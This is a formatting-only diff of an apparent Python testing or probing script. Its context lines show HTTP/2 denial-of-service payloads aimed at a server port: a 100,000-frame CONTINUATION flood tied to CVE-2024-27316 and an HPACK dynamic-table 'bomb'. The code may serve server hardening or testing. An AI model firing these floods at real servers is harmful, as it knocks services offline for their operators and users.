@@ -54,10 +54,12 @@ def resets(port):
 
 def headers(port):
     """A header that goes on for ever (CVE-2024-27316)."""
+
     def parts():
         yield frame(HEADERS, 0, 1, REQUEST)
         for _ in range(100_000):
             yield frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x81\x7e" + b"a" * 253)
+
     pour(port, parts())
 
 
@@ -69,9 +71,11 @@ def settings(port):
 def bombs(port):
     """A header of the dynamic table that is named again and again."""
     big = b"\x40\x01a\x7f\x81\x1e" + b"a" * 4_000
+
     def parts():
         for one in range(2_000):
             yield frame(HEADERS, 4, 2 * one + 1, REQUEST + big + b"\xbe" * 8_000)
+
     pour(port, parts())
 
 
@@ -100,7 +104,7 @@ def is_spoken(port):
                 while len(seen) >= 9 and len(seen) >= 9 + (size := int.from_bytes(seen[:3], "big")):
                     if seen[3] == HEADERS:
                         return True
-                    seen = seen[9 + size:]
+                    seen = seen[9 + size :]
     except OSError:
         pass
     return False
